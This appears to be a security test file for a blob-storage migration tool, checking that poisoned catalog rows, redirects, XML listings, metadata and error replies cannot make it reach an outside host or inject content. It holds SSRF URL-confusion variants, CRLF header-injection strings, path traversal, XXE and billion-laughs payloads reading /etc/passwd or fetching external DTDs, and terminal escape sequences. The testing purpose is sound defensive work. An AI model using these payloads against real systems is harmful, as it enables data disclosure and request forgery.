#!/usr/bin/env python3
"""Neither a row nor a reply makes frostline speak to a stranger, or say what it was told to say."""
import os
import subprocess
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "lib"))
from scene import Run, Scene, main, sql
from stranger import SOURCE, Guarded, Stranger


# -- rows ----------------------------------------------------------------------------------------


def poisons(scene, stranger):
    """Locations that somebody put into the catalog, each in a directory of its own."""
    honest = scene.location("recording/poison/{}/x")  # http://127.0.0.1:PORT/account/container/..
    host = honest.split("/")[2]
    return [text.replace("{}", str(number)) for number, text in enumerate([
        honest.replace(host, stranger),
        honest.replace(host, f"{host}@{stranger}"),
        honest.replace("http:", "https:").replace(host, f"{host}@{stranger}"),
        honest.replace(host, f"srcacct:key@{stranger}"),
        honest.replace(host, f"{host}%40{stranger}"),
        honest.replace(host, f"{host}\\@{stranger}"),
        honest.replace(host, f"{host}#@{stranger}"),
        honest.replace(host, f"{host}?@{stranger}"),
        honest.replace(host, f"{host}.{stranger}"),
        honest.replace(host, f"{host} @{stranger}"),
        honest.replace(host, f"{host}\t@{stranger}"),
        honest.replace("http:", "HTTP:").replace(host, stranger),
        honest.replace(host, f"{host}/http://{stranger}"),
        f"https://srcacct.blob.core.windows.net@{stranger}/{scene.hot}/recording/poison/{{}}/x",
        f"//{stranger}/srcacct/{scene.hot}/recording/poison/{{}}/x",
        f"http:{stranger}/srcacct/{scene.hot}/recording/poison/{{}}/x",
        honest + f"\r\nHost: {stranger}\r\n\r\nGET /",
        honest + f"%0d%0aHost:%20{stranger}",
        honest.replace("/poison/", f"/poison/../../../{stranger}/"),
        honest.replace("/poison/", f"/poison/%2e%2e/%2e%2e/{stranger}/"),
        honest.replace("/poison/", f"/poison\\..\\{stranger}\\"),
        honest + f"?sv=1&sig=x&copysource=http://{stranger}/",
        honest.replace("/poison", "/poison\x7f"),
        "file:///etc/poison/{}/passwd",
        f"ftp://{stranger}/poison/{{}}/x",
    ])]


def case_a_poisoned_row_leads_nowhere():
    with Stranger() as stranger, Guarded("rows") as scene:
        scene.fill(2)
        rows = {f"P{i}": text for i, text in enumerate(poisons(scene, stranger.host))}
        for ident, location in rows.items():
            scene.add_row(ident, location)
        sql(f"INSERT INTO {scene.table} VALUES ('BYTES', E'http://{stranger.host}/\\x01\\x1b[2J/x',"
            " '2025-02-14 06:00:00', 'map_1', 0.001, 600, true);")
        before = digests(scene)
        scene.policy()
        scene.puppet.seen.clear()
        with open(os.environ["AZURITE_ACCESS_LOG"]) as log:
            log.seek(0, os.SEEK_END)
            scene.plan("-vv")
            for ident in ("P0", "P1", "P13"):
                scene.run("explain", ident)
            run = scene.run("apply", "p.plan", "--auto-approve", "-vv").must()
            scene.run("reconcile", "-vv")
            requests = log.read()
        assert "Moved 2 recordings" in run.out, run.out
        assert stranger.heard == [], stranger.heard
        assert scene.source.names(scene.hot) == []
        assert scene.held_by(scene.target, scene.cold) == scene.objects
        after = digests(scene)
        assert {i for i in after if after[i] != before[i]} == set(scene.rows)
        told = requests + "".join(path for _, path, _, _ in scene.puppet.seen)
        assert scene.hot in told and "poison" not in told, told
        assert {host for _, _, headers, _ in scene.puppet.seen for host in hosts(headers)} == {
            scene.puppet.host}


def digests(scene):
    return dict(sql(f"SELECT ecal_id, md5(ecal_name) FROM {scene.table};"))


def hosts(headers):
    return [line.split(": ")[1] for line in headers.splitlines() if line.lower().startswith("host:")]


# -- replies -------------------------------------------------------------------------------------


def case_a_redirect_is_not_followed():
    with Stranger() as stranger, Guarded("redirect") as scene:
        scene.fill(1)
        scene.policy()
        scene.plan()
        away = [("x-ms-request-id", "1"), ("Location", f"http://{stranger.host}/srcacct/x?sig=1"),
                ("x-ms-copy-source", f"http://{stranger.host}/")]
        for status in (301, 302, 303, 307, 308):
            scene.puppet.answer = lambda request: (status, away, b"")
            told = scene.run("plan", "-vv")
            assert "1 directory blocked" in told.out and str(status) in told.out, told.out
            told = scene.run("apply", "p.plan", "--auto-approve", "-vv").must(3)
            assert "Moved 0 recordings" in told.out, told.out
        scene.puppet.answer = lambda request: None
        scene.check_untouched()
        # Where only what changes something is redirected, and the listings are not.
        for methods, moved in ((("PUT",), False), (("POST", "DELETE"), True)):
            scene.puppet.answer = lambda request: (307, away, b"") \
                if request.command in methods else None
            run = scene.run("reconcile", "-vv")
            assert ("parked: delete-refused" in run.out) == moved, run.out
        scene.puppet.answer = lambda request: None
        assert scene.held_by(scene.source, scene.hot) == scene.objects
        assert scene.held_by(scene.target, scene.cold) == scene.objects
        assert stranger.heard == [], stranger.heard


def listing(name, etag="0x1", before=""):
    return (200, [("Content-Type", "application/xml"), ("x-ms-request-id", "1")],
            (f'<?xml version="1.0" encoding="utf-8"?>{before}<EnumerationResults><Blobs><Blob>'
             f"<Name>{name}</Name><Properties><Etag>{etag}</Etag>"
             "<Content-Length>2000</Content-Length><BlobType>BlockBlob</BlobType></Properties>"
             "</Blob></Blobs><NextMarker /></EnumerationResults>").encode())


def is_listing(request):
    return request.command == "GET" and "comp=list" in request.path


def measured(scene, *words):
    """A run, and the most memory that it had, in bytes."""
    with open(os.path.join(scene.folder, "told"), "w+") as told:
        process = subprocess.Popen(scene.command(*words), cwd=scene.folder, stdin=subprocess.DEVNULL,
                                   env=scene.environment(), stdout=told, stderr=told)
        _, status, usage = os.wait4(process.pid, 0)
        process.returncode = os.waitstatus_to_exitcode(status)
        told.seek(0)
        process.stdout = process.stderr = told.read()
    return Run(process), usage.ru_maxrss * 1024


def case_entities_are_not_expanded():
    laughs = "".join(f'<!ENTITY e{i} "{f"&e{i - 1};" * 10 if i else "ha" * 50}">' for i in range(12))
    with Stranger() as stranger, Guarded("laughs") as scene:
        scene.fill(1)
        key = scene.rows["ECAL_00000"]
        scene.policy()
        run, usual = measured(scene, "plan")
        assert "1 recording to move" in run.out, run.out
        for doctype, name in (
                (f"<!DOCTYPE e [{laughs}]>", key + "&e11;"),
                ('<!DOCTYPE e [<!ENTITY e "' + "x" * 60000 + '">]>', key + "&e;" * 60000),
                ('<!DOCTYPE e [<!ENTITY e SYSTEM "file:///etc/passwd">]>', key + "&e;"),
                (f'<!DOCTYPE e [<!ENTITY e SYSTEM "http://{stranger.host}/e">]>', key + "&e;"),
                (f'<!DOCTYPE e SYSTEM "http://{stranger.host}/e.dtd">', key),
                (f'<!DOCTYPE e [<!ENTITY % p SYSTEM "http://{stranger.host}/p">%p;]>', key),
                ("<!DOCTYPE e>", key)):
            scene.puppet.answer = lambda request: listing(name, before=doctype) \
                if is_listing(request) else None
            run, most = measured(scene, "plan", "--all")
            assert "XML with a DOCTYPE" in run.out, run.out
            assert "1 recording to move" not in run.out and "root:" not in run.out, run.out
            assert most < usual + (16 << 20), (doctype[:60], usual, most)
        assert stranger.heard == [], stranger.heard


def case_what_is_listed_adds_no_header():
    line = "x-evil: 1"
    names = [f"{{}}&#13;&#10;{line}", f"{{}}&#10;{line}&#10;", f"{{}}&#13;{line}",
             f"{{}} HTTP/1.1&#13;&#10;{line}&#13;&#10;&#13;&#10;"]
    etags = [f"0x1&#13;&#10;{line}", f"&quot;0x1&quot;&#10;{line}", f"0x1&quot;&#13;{line}: &quot;",
             "0x1&quot;, &quot;*"]
    with Guarded("header") as scene:
        scene.fill(1)
        key = scene.rows["ECAL_00000"]
        lies = [listing(name.format(key)) for name in names]
        encoded = listing(f"{key}%0D%0A{line}")
        lies += [(*encoded[:2], encoded[2].replace(b"<Name>", b'<Name Encoded="true">'))]
        lies += [listing(key, etag) for etag in etags]
        scene.policy()
        scene.plan()
        for lie in lies:
            scene.puppet.seen.clear()
            scene.puppet.answer = lambda request: lie if is_listing(request) else None
            run = scene.run("reconcile", "-vv")
            assert "Moved 1" not in run.out, (lie, run.out)
            scene.run("apply", "p.plan", "--auto-approve", "-vv")
            for method, path, headers, body in scene.puppet.seen:
                said = path.encode() + headers.encode() + body
                assert method in ("GET", "HEAD") and b"evil" not in said.lower(), (lie, method, said)
        scene.puppet.answer = lambda request: None
        scene.check_untouched()


def case_metadata_of_an_empty_object_adds_no_header():
    with Guarded("metadata") as scene:
        scene.fill(1)
        key = scene.rows["ECAL_00000"]
        scene.put(key, b"")

        def answer(request):
            if request.command != "HEAD" or not request.path.endswith(key):
                return None
            status, headers, body = request.ask_the_real_one()
            return status, headers + [("x-ms-meta-a", "1\rx-evil: 1\rAuthorization: 2"),
                                      ("x-ms-meta-b", "1\r\n x-evil: 2"),
                                      ("Cache-Control", "max-age=1\rx-evil: 3")], body
        scene.puppet.answer = answer
        scene.policy()
        scene.run("reconcile").must()
        made = [(path, headers) for method, path, headers, _ in scene.puppet.seen if method == "PUT"
                and key.rsplit("/", 1)[1] in path]
        assert made and "x-ms-meta-a: 1\n" in made[0][1], made
        for path, headers in made:
            names = [line.split(":")[0].lower() for line in headers.splitlines()]
            assert "x-evil" not in names and names.count("authorization") == 1, headers


def case_what_a_server_says_is_no_order_to_the_terminal():
    with Guarded("orders") as scene:
        scene.fill(1)
        scene.policy()
        scene.plan()
        order = "\x1b[2J\x9b31m\x07"
        for status in (403, 409, 412):
            scene.puppet.answer = lambda request: (
                status, [("x-ms-error-code", order + "code"), ("x-ms-request-id", order + "id")], b"") \
                if request.command in ("GET", "PUT") else None
            told = ""
            for words in (["plan", "-vv"], ["apply", "p.plan", "--auto-approve", "-vv"],
                          ["validate", "--online"], ["plan", "--format", "json"]):
                run = scene.run(*words)
                told += run.out + run.err
            assert "?[2J?31m?code" in told and not set(told) & set("\x1b\x9b\x07"), told


# -- the way there -------------------------------------------------------------------------------


def case_plain_http_stays_on_this_machine():
    addresses = subprocess.run(["hostname", "-I"], capture_output=True, text=True).stdout.split()
    for address in [a for a in addresses if "." in a][:1]:
        with Stranger(address) as stranger, Scene("plainhttp", reach_stores=False) as scene:
            scene.policy()
            scene.add_row("A", f"http://{stranger.host}/srcacct/{scene.hot}/recording/1/a")
            away = os.environ[SOURCE].replace(scene.source.host, stranger.host)
            assert away != os.environ[SOURCE]
            for words in (["validate", "--online"], ["plan"], ["reconcile"]):
                run = scene.run(*words, **{SOURCE: away}).must(65)
                assert "http" in run.err and "AccountKey" not in run.err, run.err
            assert stranger.heard == [], stranger.heard


if __name__ == "__main__":
    main(globals())
